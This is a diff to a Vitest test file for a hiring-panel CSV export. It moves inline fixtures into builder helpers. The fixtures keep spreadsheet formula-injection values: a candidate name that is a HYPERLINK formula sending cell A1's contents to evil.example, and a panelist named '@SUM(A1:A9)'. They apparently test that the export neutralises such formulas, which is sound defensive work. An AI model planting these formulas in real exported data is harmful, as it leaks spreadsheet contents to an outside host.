@@ -1,42 +1,26 @@
 import { describe, expect, it } from 'vitest';
-import type { HiringRound, Scorecard } from '../../src/domain/panel/panel.ts';
-import { scorecardId } from '../../src/domain/panel/panel.ts';
+import type { HiringRound } from '../../src/domain/panel/panel.ts';
+import { buildRound, submittedScorecard } from '../builders/panel.ts';
 import { panelCsv } from '../../src/domain/panel/panel-csv.ts';
 import { panelResults } from '../../src/domain/panel/panel-results.ts';
 import { shippedFramework as fw } from './shipped-framework.ts';
 
-const T1 = '2024-05-01T09:00:00.000Z';
-const T2 = '2024-05-01T10:00:00.000Z';
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
 
-const round: HiringRound = {
-  id: 'r1',
-  positionTitle: 'Chief Technology Officer',
-  district: 'Springfield USD',
-  framework: { editionId: fw.id, dataVersion: fw.dataVersion },
-  candidates: [
-    { id: 'c1', name: 'Ada Lovelace' },
-    { id: 'c2', name: HYPERLINK },
-  ],
+const round: HiringRound = buildRound({
+  candidates: ['Ada Lovelace', HYPERLINK],
   panelists: [
-    { id: 'p1', name: 'Alan Turing', role: 'Superintendent' },
-    { id: 'p2', name: 'Hopper, Grace', role: 'Board member' },
-    { id: 'p3', name: '@SUM(A1:A9)', role: 'Principal' },
+    { name: 'Alan Turing', role: 'Superintendent' },
+    { name: 'Hopper, Grace', role: 'Board member' },
+    { name: '@SUM(A1:A9)', role: 'Principal' },
   ],
   skillAreaIds: ['1', 'CV1'],
   weights: { '1': 2 },
-  createdAt: T1,
-  updatedAt: T1,
-  revision: 1,
-};
-
-function card(panelistId: string, scores: Scorecard['scores']): Scorecard {
-  return { id: scorecardId('r1', panelistId), roundId: 'r1', panelistId, scores, updatedAt: T1, submittedAt: T2, revision: 3 };
-}
+});
 
 const cards = [
-  card('p1', { c1: { '1': { level: 'proficient', note: 'Clear vision' }, CV1: { level: 'leading' } }, c2: { '1': { level: 'developing' } } }),
-  card('p2', { c1: { '1': { level: 'emerging' } } }),
+  submittedScorecard(round, 'p1', { c1: { '1': { level: 'proficient', note: 'Clear vision' }, CV1: { level: 'leading' } }, c2: { '1': { level: 'developing' } } }),
+  submittedScorecard(round, 'p2', { c1: { '1': { level: 'emerging' } } }),
 ];
 
 const csv = panelCsv(fw, round, panelResults(fw, round, cards, { onlySubmitted: true }));
